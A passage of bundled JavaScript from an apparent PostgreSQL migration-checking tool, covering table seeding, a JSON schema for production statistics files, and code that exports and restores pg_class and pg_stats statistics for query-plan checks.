          if (result2.rows > 0) {
            filled.push(relation);
            deferred.push(...plan.deferred.map((fk) => ({ relation, fk })));
          }
        }
      } catch (error) {
        if (error instanceof ProviderError) throw error;
        failed2(describe2(error));
      }
      progress.step(++done, steps.length, relation.name);
    }
    for (const { relation, fk } of deferred) {
      const updateStarted = performance.now();
      const parent = byOid.get(fk.parent);
      const columns = fk.columns.map((n) => relation.columns.find((c) => c.num === n).name).join(", ");
      const row = entry.get(relation);
      const error = await sqlError(async () => {
        const keys = await keyTables.keys(parent, fk.parentColumns);
        if (keys.count === 0) {
          row.note = [row.note, `${columns} left NULL: ${parent.name} has no rows`].filter(Boolean).join("; ");
          return;
        }
        await fillDeferred(session, relation, fk, parent, keys, context.salts(relation, `fk:${fk.name}`), context.skew);
      });
      row.ms += performance.now() - updateStarted;
      if (error) problems.push({ kind: "table", table: relation.name, message: `${columns} left NULL where not yet set: setting the references failed: ${error}` });
    }
    if (tuned.triggersOff) {
      for (const relation of filled) {
        const checkStarted = performance.now();
        const error = await sqlError(async () => {
          const references = [];
          for (const fk of relation.foreignKeys) {
            const parent = byOid.get(fk.parent);
            if (parent) references.push({ fk, parent, keys: await keyTables.keys(parent, fk.parentColumns) });
          }
          for (const [fk, orphans] of await checkForeignKeys(session, relation, references)) {
            problems.push({ kind: "table", table: relation.name, message: `${orphans} rows broke foreign key ${fk.name} and were removed or set to NULL` });
          }
        });
        if (error) problems.push({ kind: "table", table: relation.name, message: `checking its foreign keys failed: ${error}` });
        entry.get(relation).ms += performance.now() - checkStarted;
      }
    }
  } finally {
    await tuned.restore();
    await keyTables.drop();
    await dropRowFunction(session);
  }
  await refreshMaterializedViews(session, relations, record);
  const analyzeStarted = performance.now();
  for (const relation of relations) {
    const row = entry.get(relation);
    const filledNow = row?.status !== "kept" && (row?.rows ?? 0) > 0;
    if (relation.kind === "view" || relation.kind === "foreign" || !(filledNow || relation.hasRows && options.analyzeKept !== false)) continue;
    try {
      await session.query(`VACUUM (ANALYZE) ${relation.sql}`);
    } catch (error) {
      if (error instanceof ProviderError) throw error;
      problems.push({ kind: "table", table: relation.name, message: `VACUUM (ANALYZE) failed: ${describe2(error)}` });
    }
  }
  const analyzeMs = performance.now() - analyzeStarted;
  return {
    tables: relations.map((r) => entry.get(r)).filter((t) => t !== void 0),
    problems,
    rows: inserted,
    ms: performance.now() - started,
    analyzeMs,
    ...scaled ? { scaled } : {}
  };
}
async function sqlError(work) {
  try {
    await work();
    return void 0;
  } catch (error) {
    if (error instanceof ProviderError) throw error;
    return describe2(error);
  }
}
async function refreshMaterializedViews(session, relations, record) {
  let waiting = relations.filter((r) => r.kind === "matview");
  const errors = /* @__PURE__ */ new Map();
  while (waiting.length > 0) {
    const failed2 = [];
    for (const view of waiting) {
      const started = performance.now();
      try {
        await session.query(`REFRESH MATERIALIZED VIEW ${view.sql}`);
        const [row] = await session.query(`SELECT count(*)::int8 AS n FROM ${view.sql}`);
        record(view, { status: "refreshed", target: 0, rows: Number(row.n), ms: performance.now() - started });
      } catch (error) {
        if (error instanceof ProviderError) throw error;
        errors.set(view, describe2(error));
        failed2.push(view);
      }
    }
    if (failed2.length === waiting.length) break;
    waiting = failed2;
  }
  for (const view of waiting) {
    record(view, { status: "failed", target: 0, rows: 0, ms: 0, note: `REFRESH MATERIALIZED VIEW failed: ${errors.get(view)}` });
  }
}
function fnv1a(text2) {
  let h = 2166136261;
  for (const byte of Buffer.from(text2, "utf8")) h = Math.imul(h ^ byte, 16777619) >>> 0;
  return h;
}
var DEFAULT_ROWS, DEFAULT_MAX_ROWS, DEFAULT_MAX_TOTAL_ROWS, SKIPPED2;
var init_seed = __esm({
  "src/seed/index.ts"() {
    "use strict";
    init_progress();
    init_source();
    init_provider();
    init_replay();
    init_catalog2();
    init_fill();
    init_order2();
    init_plan3();
    DEFAULT_ROWS = 1e4;
    DEFAULT_MAX_ROWS = 1e6;
    DEFAULT_MAX_TOTAL_ROWS = 1e6;
    SKIPPED2 = {
      view: "a view: it shows the rows of its tables",
      foreign: "a foreign table: its rows live on another server"
    };
  }
});

// schemas/stats.schema.json
var stats_schema_default;
var init_stats_schema = __esm({
  "schemas/stats.schema.json"() {
    stats_schema_default = {
      $schema: "http://json-schema.org/draft-07/schema#",
      $id: "https://raw.githubusercontent.com/sql-preflight/sql-preflight/main/schemas/stats.schema.json",
      title: "sql-preflight statistics file",
      description: "Production table sizes and column statistics, written by `sql-preflight stats export` and read by `sql-preflight check --stats`. It holds what pg_class and pg_stats hold, and no other data. Tables are sorted by schema, then name.",
      type: "object",
      additionalProperties: false,
      required: [
        "version",
        "source",
        "exported_at",
        "with_values",
        "tables"
      ],
      properties: {
        $schema: {
          type: "string",
          description: "The URL of this schema."
        },
        version: {
          const: 1,
          description: "The version of this format."
        },
        source: {
          type: "object",
          description: "The server the statistics were exported from.",
          additionalProperties: false,
          required: [
            "server_version",
            "server_version_num"
          ],
          properties: {
            server_version: {
              type: "string",
              description: "server_version, e.g. 15.8."
            },
            server_version_num: {
              type: "integer",
              minimum: 90200,
              description: "server_version_num, e.g. 150008."
            }
          }
        },
        exported_at: {
          type: "string",
          description: "When the statistics were exported: an ISO 8601 date and time in UTC."
        },
        with_values: {
          type: "boolean",
          description: "false: exported with --no-values, so most_common_vals, histogram_bounds and most_common_elems (with their frequencies) are null throughout."
        },
        tables: {
          type: "array",
          items: {
            $ref: "#/definitions/table"
          }
        }
      },
      definitions: {
        table: {
          type: "object",
          description: "A table, partitioned table or materialized view: its size from pg_class and its columns' statistics.",
          additionalProperties: false,
          required: [
            "schema",
            "name",
            "kind",
            "relpages",
            "reltuples",
            "relallvisible",
            "columns"
          ],
          properties: {
            schema: {
              type: "string",
              description: "The schema, as stored (unquoted)."
            },
            name: {
              type: "string",
              description: "The table name, as stored (unquoted)."
            },
            kind: {
              enum: [
                "table",
                "partitioned",
                "matview"
              ],
              description: "table (a table or a partition), partitioned (a partitioned table, which holds no rows itself) or matview (a materialized view)."
            },
            partition_of: {
              type: [
                "object",
                "null"
              ],
              additionalProperties: false,
              required: [
                "schema",
                "name"
              ],
              properties: {
                schema: {
                  type: "string"
                },
                name: {
                  type: "string"
                }
              },
              description: "For a partition: the partitioned table it belongs to."
            },
            relpages: {
              type: "integer",
              minimum: -1,
              description: "pg_class.relpages: the size in pages when the table was last vacuumed or analysed (-1 or 0 for a partitioned table)."
            },
            reltuples: {
              type: "number",
              minimum: -1,
              description: "pg_class.reltuples: the number of rows when the table was last vacuumed or analysed; -1 if it never was."
            },
            relallvisible: {
              type: "integer",
              minimum: 0,
              description: "pg_class.relallvisible: the pages marked all-visible in the visibility map."
            },
            columns: {
              type: "array",
              items: {
                $ref: "#/definitions/column"
              },
              description: "The columns' statistics, sorted by name, then inherited. Empty if the table was never analysed or the exporting role may not read its columns."
            }
          }
        },
        column: {
          type: "object",
          description: "One row of pg_stats: the statistics ANALYZE keeps for a column. Fields that hold column values are PostgreSQL array literals (the text of pg_stats' anyarray columns, written with DateStyle ISO, IntervalStyle postgres, TimeZone UTC), read with the column's type when they are imported. A missing or null field means PostgreSQL has no such statistic for the column (or the file was exported with --no-values).",
          additionalProperties: false,
          required: [
            "name",
            "inherited",
            "null_frac",
            "avg_width",
            "n_distinct"
          ],
          properties: {
            name: {
              type: "string",
              description: "The column name, as stored (unquoted)."
            },
            inherited: {
              type: "boolean",
              description: "true: the statistics cover the rows of the table's partitions or inheritance children too (the only kind a partitioned table has)."
            },
            null_frac: {
              type: "number",
              minimum: 0,
              maximum: 1,
              description: "The fraction of rows where the column is null."
            },
            avg_width: {
              type: "integer",
              minimum: 0,
              description: "The average width of the column's values, in bytes."
            },
            n_distinct: {
              type: "number",
              minimum: -1,
              description: "The number of distinct values if positive; if negative, minus the number of distinct values divided by the number of rows (-1: every value is distinct)."
            },
            most_common_vals: {
              type: [
                "string",
                "null"
              ],
              description: "The most common values (an array literal, e.g. {delivered,shipped}). Holds column values: left out by --no-values."
            },
            most_common_freqs: {
              type: [
                "array",
                "null"
              ],
              items: {
                type: "number",
                minimum: 0
              },
              description: "The frequency of each of most_common_vals, as fractions of all rows. Left out with most_common_vals."
            },
            histogram_bounds: {
              type: [
                "string",
                "null"
              ],
              description: "Values that divide the column's other values into groups of about equal size (an array literal). Holds column values: left out by --no-values."
            },
            correlation: {
              type: [
                "number",
                "null"
              ],
              minimum: -1,
              maximum: 1,
              description: "The correlation between the physical row order and the order of the column's values."
            },
            most_common_elems: {
              type: [
                "string",
                "null"
              ],
              description: "Array, tsvector and similar columns: the most common elements (an array literal). Holds column values: left out by --no-values."
            },
            most_common_elem_freqs: {
              type: [
                "array",
                "null"
              ],
              items: {
                type: "number",
                minimum: 0
              },
              description: "The frequency of each of most_common_elems, then the minimum, the maximum and the frequency of nulls. Left out with most_common_elems."
            },
            elem_count_histogram: {
              type: [
                "array",
                "null"
              ],
              items: {
                type: "number",
                minimum: 0
              },
              description: "A histogram of the number of distinct non-null elements per value, then their average."
            }
          }
        }
      }
    };
  }
});

// src/stats/file.ts
import { Ajv } from "ajv";
function tableName3(table) {
  return `${table.schema}.${table.name}`;
}
function formatStatsFile(stats) {
  return `${JSON.stringify({ $schema: STATS_SCHEMA_URL, ...stats }, null, 2)}
`;
}
function validate(data) {
  validator ??= new Ajv({ allErrors: true }).compile(stats_schema_default);
  return validator(data);
}
function readStatsFile(path3, text2) {
  let data;
  try {
    data = JSON.parse(text2);
  } catch (error) {
    throw new UsageError(`${path3}: not a statistics file: the JSON is invalid (${error.message}).`);
  }
  const version = data?.version;
  if (typeof version === "number" && version !== STATS_FORMAT_VERSION) {
    throw new UsageError(
      `${path3}: /version is ${version}, but this sql-preflight reads version ${STATS_FORMAT_VERSION} of the statistics file${version > STATS_FORMAT_VERSION ? " (the file was written by a newer sql-preflight: upgrade, or export again with this one)" : ""}.`
    );
  }
  if (!validate(data)) {
    const errors = simplify(validator?.errors ?? []);
    const lines = errors.slice(0, MAX_ERRORS).map((error) => `${path3}: ${describe3(error)}`);
    if (errors.length > MAX_ERRORS) lines.push(`${path3}: and ${errors.length - MAX_ERRORS} more problems.`);
    throw new UsageError(lines.join("\n"));
  }
  return data;
}
function simplify(errors) {
  const byPlace = /* @__PURE__ */ new Map();
  for (const error of errors) {
    const key = `${error.instancePath}|${error.keyword === "required" ? error.params.missingProperty : ""}|${error.keyword === "additionalProperties" ? error.params.additionalProperty : ""}`;
    if (!byPlace.has(key)) byPlace.set(key, error);
  }
  return [...byPlace.values()];
}
function describe3(error) {
  const at = error.instancePath || "the top level";
  switch (error.keyword) {
    case "required":
      return `${at} needs "${error.params.missingProperty}".`;
    case "additionalProperties":
      return `${at} has an unknown key "${error.params.additionalProperty}".`;
    case "type": {
      const types = [].concat(error.params.type);
      return `${at} must be ${types.map((type) => type === "null" ? "null" : /^[aeiou]/.test(type) ? `an ${type}` : `a ${type}`).join(" or ")}.`;
    }
    case "const":
      return `${at} must be ${JSON.stringify(error.params.allowedValue)}.`;
    case "enum":
      return `${at} must be one of ${error.params.allowedValues.map((v) => JSON.stringify(v)).join(", ")}.`;
    default:
      return `${at} ${error.message ?? "is invalid"}.`;
  }
}
function seedTargets(stats) {
  const children = /* @__PURE__ */ new Map();
  for (const table of stats.tables) {
    if (!table.partition_of) continue;
    const parent = tableName3(table.partition_of);
    children.set(parent, [...children.get(parent) ?? [], table]);
  }
  const leafRows = (table) => {
    if (table.kind !== "partitioned") return table.reltuples >= 0 ? table.reltuples : void 0;
    const counts = (children.get(tableName3(table)) ?? []).map(leafRows).filter((rows2) => rows2 !== void 0);
    return counts.length > 0 ? counts.reduce((sum, rows2) => sum + rows2, 0) : table.reltuples >= 0 ? table.reltuples : void 0;
  };
  const targets = {};
  for (const table of stats.tables) {
    if (table.partition_of || table.kind === "matview") continue;
    const rows2 = leafRows(table);
    if (rows2 !== void 0) targets[tableName3(table)] = { rows: Math.round(rows2) };
  }
  return targets;
}
var STATS_SCHEMA_URL, STATS_FORMAT_VERSION, validator, MAX_ERRORS;
var init_file = __esm({
  "src/stats/file.ts"() {
    "use strict";
    init_errors();
    init_stats_schema();
    STATS_SCHEMA_URL = "https://raw.githubusercontent.com/sql-preflight/sql-preflight/main/schemas/stats.schema.json";
    STATS_FORMAT_VERSION = 1;
    MAX_ERRORS = 20;
  }
});

// src/stats/apply.ts
async function applyStats(session, stats, serverMajor) {
  const problems = [];
  const targets = await readTargets(session, stats.tables);
  const found = [];
  for (const table of stats.tables) {
    const target = targets.get(tableName3(table));
    if (!target) problems.push({ table: tableName3(table), message: "the statistics file has this table, but the schema here does not" });
    else if (target.pages === null && target.kind !== "p") problems.push({ table: tableName3(table), message: `the statistics file has a table of this name, but it is ${KIND_NAMES[target.kind] ?? "not a table"} here` });
    else found.push([table, target]);
  }
  if (serverMajor < RESTORE_MIN_MAJOR) {
    const tables2 = found.map(([table, target]) => {
      const rows2 = Math.max(0, target.reltuples);
      const note = table.reltuples >= 0 && Math.round(table.reltuples) !== rows2 ? `${count(table.reltuples)} rows in production` : void 0;
      return { table: tableName3(table), rows: rows2, ...note ? { note } : {} };
    });
    const notes2 = [
      `PostgreSQL ${serverMajor} cannot import statistics (that takes PostgreSQL ${RESTORE_MIN_MAJOR} or later): the tables were filled with generated rows at production counts, up to max-rows, and the plans use the statistics of those rows.`
    ];
    return { mode: "scaled-rows", tables: tables2, notes: notes2, problems };
  }
  const tables = [];
  for (const [table, target] of found) {
    const name = tableName3(table);
    try {
      tables.push(await restoreRelation(session, stats, table, target, problems));
      await restoreColumns(session, stats, table, target, problems);
    } catch (error) {
      if (error instanceof ProviderError) throw error;
      problems.push({ table: name, message: `restoring its statistics failed: ${describe2(error)}` });
    }
  }
  const notes = [
    "Row estimates use production statistics. A table generated with fewer rows than production keeps its smaller size in pages, so the page-reading part of its scan costs is lower than in production, which favours index scans."
  ];
  if (!stats.with_values) {
    notes.push(
      "The statistics file has no column values (exported with --no-values): the most common values and histograms are the generated data's, the null fractions, distinct counts and correlations production's."
    );
  }
  return { mode: "restored", tables, notes, problems };
}
async function readTargets(session, tables) {
  const rows2 = await session.query(TARGETS, [tables.map((t) => t.schema), tables.map((t) => t.name)]);
  return new Map(rows2.map(({ schema, name, ...target }) => [tableName3({ schema, name }), { ...target, columns: target.columns ?? {} }]));
}
async function restoreRelation(session, stats, table, target, problems) {
  const name = tableName3(table);
  const seeded = Math.max(0, target.reltuples);
  if (table.reltuples < 0 && table.kind === "partitioned") {
    return { table: name, rows: seeded, note: "a partitioned table never analysed in production: the planner estimates its partitions from their own statistics" };
  }
  if (table.reltuples < 0) {
    return { table: name, rows: seeded, note: "never vacuumed or analysed in production, so its row count is unknown: the generated rows stay" };
  }
  const relation = { reltuples: table.reltuples };
  if (target.pages !== null) {
    if (target.pages === 0) {
      problems.push({ table: name, message: "it has no rows here, and the planner estimates an empty table as empty whatever its statistics say" });
      return { table: name, rows: 0 };
    }
    relation.relpages = target.pages;
    relation.relallvisible = table.relpages > 0 ? Math.min(target.pages, Math.round(table.relallvisible / table.relpages * target.pages)) : 0;
    await session.query(`ALTER ${target.kind === "m" ? "MATERIALIZED VIEW" : "TABLE"} ${quoteIdent2(table.schema)}.${quoteIdent2(table.name)} SET (autovacuum_enabled = false)`);
  }
  const args = Object.entries(relation).map(([key, value], i) => `'${key}', $${i + 4}::${key === "reltuples" ? "real" : "integer"}`);
  const [row] = await session.query(
    `SELECT pg_catalog.pg_restore_relation_stats('version', $1::integer, 'schemaname', $2::text, 'relname', $3::text, ${args.join(", ")}) AS restored`,
    [stats.source.server_version_num, table.schema, table.name, ...Object.values(relation)]
  );
  if (!row?.restored) {
    problems.push({ table: name, message: `PostgreSQL did not accept its size (reltuples ${table.reltuples}, relpages ${relation.relpages ?? "-"})` });
    return { table: name, rows: seeded };
  }
  return { table: name, rows: table.reltuples, ...relation.relpages !== void 0 ? { pages: relation.relpages } : {} };
}
async function restoreColumns(session, stats, table, target, problems) {
  const name = tableName3(table);
  const columns = [];
  for (const column of table.columns) {
    if (Object.hasOwn(target.columns, column.name)) columns.push(column);
    else problems.push({ table: name, message: `column ${column.name} has statistics in the file, but the table here has no such column` });
  }
  if (columns.length === 0) return;
  const params = [stats.source.server_version_num, table.schema, table.name];
  const fields = Object.keys(ATTRIBUTE_FIELDS);
  if (stats.with_values) {
    await session.query(
      `SELECT pg_catalog.pg_clear_attribute_stats($1::text, $2::text, c.name, c.inherited) FROM ${recordset(3)}`,
      [table.schema, table.name, JSON.stringify(columns)]
    );
  }
  const results = await session.query(restoreSql(fields), [...params, JSON.stringify(columns)]);
  for (const result2 of results) {
    if (result2.restored) continue;
    const column = columns.find((c) => c.name === result2.name && c.inherited === result2.inherited);
    const refused = [];
    for (const group of FIELD_GROUPS) {
      const given = group.filter((field) => column[field] !== void 0 && column[field] !== null);
      if (given.length === 0) continue;
      const [retry] = await session.query(restoreSql(given), [...params, JSON.stringify([column])]);
      if (!retry?.restored) refused.push(...given);
    }
    problems.push({
      table: name,
      message: `PostgreSQL did not accept ${refused.length > 0 ? refused.join(", ") : "some statistics"} of column ${column.name}${column.inherited ? " (with its children)" : ""} for its type here, ${target.columns[column.name]}: those were not restored`
    });
  }
}
function recordset(param) {
  const definitions = Object.entries(ATTRIBUTE_FIELDS).map(([field, type]) => `${field} ${type}`);
  return `jsonb_to_recordset($${param}::jsonb) AS c(name text, inherited boolean, ${definitions.join(", ")})`;
}
function restoreSql(fields) {
  const pairs = fields.map((field) => `'${field}', c.${field}`).join(", ");
  return `SELECT c.name, c.inherited, pg_catalog.pg_restore_attribute_stats('version', $1::integer, 'schemaname', $2::text,
    'relname', $3::text, 'attname', c.name, 'inherited', c.inherited, ${pairs}) AS restored FROM ${recordset(4)}`;
}
function quoteIdent2(name) {
  return `"${name.replace(/"/g, '""')}"`;
}
function count(rows2) {
  return Math.round(rows2).toLocaleString("en-US");
}
var RESTORE_MIN_MAJOR, TARGETS, KIND_NAMES, ATTRIBUTE_FIELDS, FIELD_GROUPS;
var init_apply2 = __esm({
  "src/stats/apply.ts"() {
    "use strict";
    init_provider();
    init_file();
    RESTORE_MIN_MAJOR = 18;
    TARGETS = `
  SELECT n.nspname::text AS schema, c.relname::text AS name, c.relkind::text AS kind, c.reltuples,
         CASE WHEN c.relkind IN ('r', 'm') THEN (pg_relation_size(c.oid) / current_setting('block_size')::int8)::int4 END AS pages,
         (SELECT json_object_agg(a.attname, format_type(a.atttypid, a.atttypmod)) FROM pg_catalog.pg_attribute a
           WHERE a.attrelid = c.oid AND a.attnum > 0 AND NOT a.attisdropped) AS columns
    FROM pg_catalog.pg_class c JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
   WHERE (n.nspname::text, c.relname::text) IN (SELECT * FROM unnest($1::text[], $2::text[]))`;
    KIND_NAMES = {
      i: "an index",
      I: "a partitioned index",
      S: "a sequence",
      v: "a view",
      c: "a composite type",
      f: "a foreign table",
      t: "a TOAST table"
    };
    ATTRIBUTE_FIELDS = {
      null_frac: "real",
      avg_width: "integer",
      n_distinct: "real",
      most_common_vals: "text",
      most_common_freqs: "real[]",
      histogram_bounds: "text",
      correlation: "real",
      most_common_elems: "text",
      most_common_elem_freqs: "real[]",
      elem_count_histogram: "real[]"
    };
    FIELD_GROUPS = [
      ["null_frac", "avg_width", "n_distinct"],
      ["most_common_vals", "most_common_freqs"],
      ["histogram_bounds"],
      ["correlation"],
      ["most_common_elems", "most_common_elem_freqs"],
      ["elem_count_histogram"]
    ];
  }
});

// src/stats/export.ts
function statsQuery(withValues) {
  const value = (column, cast) => withValues ? `${column}::${cast}` : `NULL::${cast}`;
  return `
  SELECT schemaname::text AS schema, tablename::text AS table, attname::text AS name, inherited, null_frac, avg_width,
         n_distinct, ${value("most_common_vals", "text")} AS most_common_vals,
         ${value("most_common_freqs", "real[]")} AS most_common_freqs, ${value("histogram_bounds", "text")} AS histogram_bounds,
         correlation, ${value("most_common_elems", "text")} AS most_common_elems,
         ${value("most_common_elem_freqs", "real[]")} AS most_common_elem_freqs, elem_count_histogram
    FROM pg_catalog.pg_stats
   WHERE schemaname <> 'information_schema' AND schemaname !~ '^pg_'
     AND ($1::text[] IS NULL OR schemaname = ANY ($1::text[]))`;
}
async function exportStats(session, options = {}) {
  const withValues = options.withValues ?? true;
  const schemas = options.schemas && options.schemas.length > 0 ? options.schemas : null;
  await session.query("BEGIN ISOLATION LEVEL REPEATABLE READ READ ONLY");
  try {
    await session.query(
      "SELECT set_config('DateStyle', 'ISO, YMD', true), set_config('IntervalStyle', 'postgres', true), set_config('TimeZone', 'UTC', true), set_config('extra_float_digits', '3', true)"
    );
    const [version] = await session.query(
      "SELECT current_setting('server_version') AS full, current_setting('server_version_num')::int4 AS num"
    );
    const relations = await session.query(RELATIONS, [schemas]);
    const rows2 = await session.query(statsQuery(withValues), [schemas]);
    await session.query("COMMIT");
    const tables = /* @__PURE__ */ new Map();
    for (const relation of relations) {
      const table = {
        schema: relation.schema,
        name: relation.name,
        kind: KINDS2[relation.kind],
        partition_of: relation.parent_schema !== null && relation.parent_name !== null ? { schema: relation.parent_schema, name: relation.parent_name } : null,
        relpages: relation.relpages,
        reltuples: relation.reltuples,
        relallvisible: relation.relallvisible,
        columns: []
      };
      tables.set(tableName3(table), table);
    }
    for (const { schema, table, ...column } of rows2) {
      tables.get(tableName3({ schema, name: table }))?.columns.push({
        name: column.name,
        inherited: column.inherited,
        null_frac: column.null_frac,
        avg_width: column.avg_width,
        n_distinct: column.n_distinct,
        most_common_vals: column.most_common_vals,
        most_common_freqs: column.most_common_freqs,
        histogram_bounds: column.histogram_bounds,
        correlation: column.correlation,
        most_common_elems: column.most_common_elems,
        most_common_elem_freqs: column.most_common_elem_freqs,
        elem_count_histogram: column.elem_count_histogram
      });
    }
    for (const table of tables.values()) table.columns.sort((a, b) => compare(a.name, b.name) || Number(a.inherited) - Number(b.inherited));
    return {
      version: STATS_FORMAT_VERSION,
      source: { server_version: version.full, server_version_num: version.num },
      exported_at: (/* @__PURE__ */ new Date()).toISOString(),
      with_values: withValues,
      tables: [...tables.values()].sort((a, b) => compare(a.schema, b.schema) || compare(a.name, b.name))
    };
  } catch (error) {
    await session.query("ROLLBACK").catch(() => {
    });
    throw error;
  }
}
function compare(a, b) {
  return a < b ? -1 : a > b ? 1 : 0;
}
var KINDS2, RELATIONS;
var init_export = __esm({
  "src/stats/export.ts"() {
    "use strict";
    init_file();
    KINDS2 = { r: "table", p: "partitioned", m: "matview" };
    RELATIONS = `
  SELECT n.nspname::text AS schema, c.relname::text AS name, c.relkind::text AS kind,
         c.relpages, c.reltuples, c.relallvisible, pn.nspname::text AS parent_schema, p.relname::text AS parent_name
    FROM pg_catalog.pg_class c
    JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
    LEFT JOIN pg_catalog.pg_inherits i ON c.relispartition AND i.inhrelid = c.oid
    LEFT JOIN pg_catalog.pg_class p ON p.oid = i.inhparent
    LEFT JOIN pg_catalog.pg_namespace pn ON pn.oid = p.relnamespace
   WHERE c.relkind IN ('r', 'p', 'm') AND c.relpersistence <> 't'
     AND n.nspname <> 'information_schema' AND n.nspname !~ '^pg_'
     AND ($1::text[] IS NULL OR n.nspname = ANY ($1::text[]))`;
  }
});

// src/stats/command.ts
import { writeFileSync } from "node:fs";
import { resolve } from "node:path";
import { parseArgs } from "node:util";
import pg2 from "pg";
async function statsExportCommand(argv, io) {
  const fail = (message, hint = false) => {
    io.stderr.write(`sql-preflight: ${message}
${hint ? "Run sql-preflight stats export --help for usage.\n" : ""}`);
    return 2;
  };
  let values;
  try {
    ({ values } = parseArgs({
      args: argv,
      options: {
        "database-url": { type: "string" },
        output: { type: "string" },
        schema: { type: "string", multiple: true },
        "no-values": { type: "boolean" },
        help: { type: "boolean", short: "h" }
      }
    }));
  } catch (error) {
    return fail(argv.reduce((message, arg) => hideSecrets(message, arg), error.message), true);
  }
  if (values.help) {
    io.stdout.write(USAGE);
    return 0;
  }
  const url = values["database-url"];
  if (!url) return fail("stats export needs --database-url, the database to read the statistics of.", true);
  if (!/^postgres(ql)?:\/\//.test(url)) return fail(`--database-url must be a postgres:// URL, not ${redactUrl(url)}.`, true);
  const where = redactUrl(url);
  const client = new pg2.Client({
    connectionString: url,
    connectionTimeoutMillis: CONNECT_TIMEOUT_MS2,
    statement_timeout: STATEMENT_TIMEOUT_MS,
    application_name: "sql-preflight stats export"
  });
  client.on("error", () => {
  });
  try {
    await client.connect();
  } catch (error) {
    await client.end().catch(() => {
    });
    return fail(hideSecrets(`could not connect to ${where}: ${describe2(error)}`, url));
  }
  let text2;
  let summary;
  try {
    await client.query("SET default_transaction_read_only = on");
    const stats = await exportStats(sessionOf(client), { schemas: values.schema, withValues: !values["no-values"] });
    const columns = stats.tables.reduce((sum, table) => sum + table.columns.length, 0);
    for (const schema of values.schema ?? []) {
      if (!stats.tables.some((table) => table.schema === schema)) io.stderr.write(`sql-preflight: schema "${schema}" has no tables on ${where}.
`);
    }
    text2 = formatStatsFile(stats);
    summary = `statistics of ${plural2(stats.tables.length, "table")} (${plural2(columns, "column")}) from PostgreSQL ${stats.source.server_version} at ${where}`;
  } catch (error) {
    return fail(hideSecrets(`could not read the statistics from ${where}: ${describe2(error)}`, url));
  } finally {
    await client.end().catch(() => {
    });
  }
  if (!values.output) {
    io.stdout.write(text2);
    io.stderr.write(`sql-preflight: wrote the ${summary}.
`);
    return 0;
  }
  try {
    writeFileSync(resolve(io.cwd, values.output), text2);
  } catch (error) {
    return fail(`${values.output}: cannot write the statistics (${error.code ?? String(error)}).`);
  }
  io.stderr.write(`sql-preflight: wrote the ${summary} to ${values.output}.
`);
  return 0;
}
function sessionOf(client) {
  return {
    query: async (sql, params = []) => {
      const config = { text: sql, values: params, queryMode: "extended" };
      return (await client.query(config)).rows;
    },
    exec: async (sql) => {
      await client.query(sql);
    },
    close: () => client.end()
  };
}
function plural2(count2, noun) {
  return `${count2} ${noun}${count2 === 1 ? "" : "s"}`;
}
var USAGE, CONNECT_TIMEOUT_MS2, STATEMENT_TIMEOUT_MS;
var init_command = __esm({
  "src/stats/command.ts"() {
    "use strict";
    init_provider();
    init_redact();
    init_export();
    init_file();
    USAGE = `Usage: sql-preflight stats export --database-url URL [--output FILE] [--schema SCHEMA]... [--no-values]

Writes the table sizes (pg_class) and column statistics (pg_stats) of a database as JSON, for check --stats.
It reads nothing else, over one read-only connection.

  --database-url URL   the database to read, e.g. production or a replica of it
  --output FILE        write the file here instead of to standard output
  --schema SCHEMA      only this schema (repeatable; default: every schema but the system ones)
  --no-values          leave out the statistics that hold column values (most common values, histograms)
`;
    CONNECT_TIMEOUT_MS2 = 1e4;
    STATEMENT_TIMEOUT_MS = 12e4;
  }
});

// src/stats/index.ts
var init_stats = __esm({
  "src/stats/index.ts"() {
    "use strict";
    init_apply2();
    init_command();
    init_export();
    init_file();
  }
});

// src/check/explain.ts
function nodeTable(label2) {
  return / on (\S+)/.exec(label2)?.[1];
}
function backfills(traced) {
  const found = [];
  for (const { file, traces } of traced) {
    for (const statement of file.statements) {
      if (!readsTables(statement) || !traces[statement.index] || traces[statement.index].error) continue;
      const query = { file: file.path, sql: statement.text, parameters: [], range: statement.range, plannable: true };
      found.push({ query, file: { path: file.path, lines: file.lines }, changedFile: true, backfill: true });
    }
  }
  return found;
}
function readsTables(statement) {
  if (statement.type === "UpdateStmt" || statement.type === "DeleteStmt" || statement.type === "MergeStmt") return true;
  const select = statement.node.selectStmt?.SelectStmt;
  return statement.type === "InsertStmt" && (select?.fromClause?.length ?? 0) > 0;
}
function droppedIndexes(statement) {
  if (statement.type !== "DropStmt") return [];
  const node = statement.node;
  if (node.removeType !== "OBJECT_INDEX") return [];
  return (node.objects ?? []).flatMap((o) => o.List?.items?.at(-1)?.String?.sval ?? []);
}
function refusalOf3(query) {
  if (!query.plannable || query.sql === "") return void 0;
  const parsed = parseSql(query.sql);
  if (!parsed.ok) return void 0;
  for (const statement of parsed.statements) {
    const refusal = unsafeStatement({ ...statement, text: query.sql });
    if (refusal) return refusal;
  }
  return void 0;
}
function sentence2(message) {
  return /[.!?]$/.test(message) ? message : `${message}.`;
}
function label(query) {
  return query.name ?? query.sql.replace(/\s+/g, " ").slice(0, 60);
}
function indexHelp(suggestion) {
  return `Measured on the seeded data, this index brings the estimated cost from ${formatCost(suggestion.beforeCost)} to ${formatCost(suggestion.afterCost)}:
${suggestion.statement}`;
}
async function tableRows(session) {
  try {
    const rows2 = await session.query(
      `SELECT n.nspname || '.' || c.relname AS name, c.reltuples::float8 AS rows FROM pg_catalog.pg_class c
         JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
        WHERE c.relkind IN ('r', 'p', 'm') AND n.nspname NOT IN ('pg_catalog', 'information_schema') AND c.reltuples >= 0`
    );
    return new Map(rows2.map((r) => [r.name, Number(r.rows)]));
  } catch (error) {
    if (error instanceof ProviderError) throw error;
    return /* @__PURE__ */ new Map();
  }
}
var ExplainRun, BACKFILL_RULES, MIN_SAVED_COST;
var init_explain2 = __esm({
  "src/check/explain.ts"() {
    "use strict";
    init_lint();
    init_parse();
    init_source();
    init_provider();
    init_explain();
    init_plan2();
    init_queries();
    init_guard();
    init_seed();
    init_stats();
    ExplainRun = class {
      #options;
      #planned;
      #findings = [];
      #notes = [];
      #serverMajor = 0;
      #seed = { rows: 0, ms: 0, tables: [] };
      constructor(options) {
        this.#options = options;
        this.#planned = options.queryFiles.flatMap((file) => {
          const indexed = { path: file.path, lines: new LineIndex(file.text) };
          return file.queries.map((query) => ({ query, file: indexed, changedFile: options.isChanged(file.path) }));
        });
      }
      /** Runs the seed files, fills every empty table, and makes the planner see production's statistics when there are some. */
      async seed(session, serverMajor) {
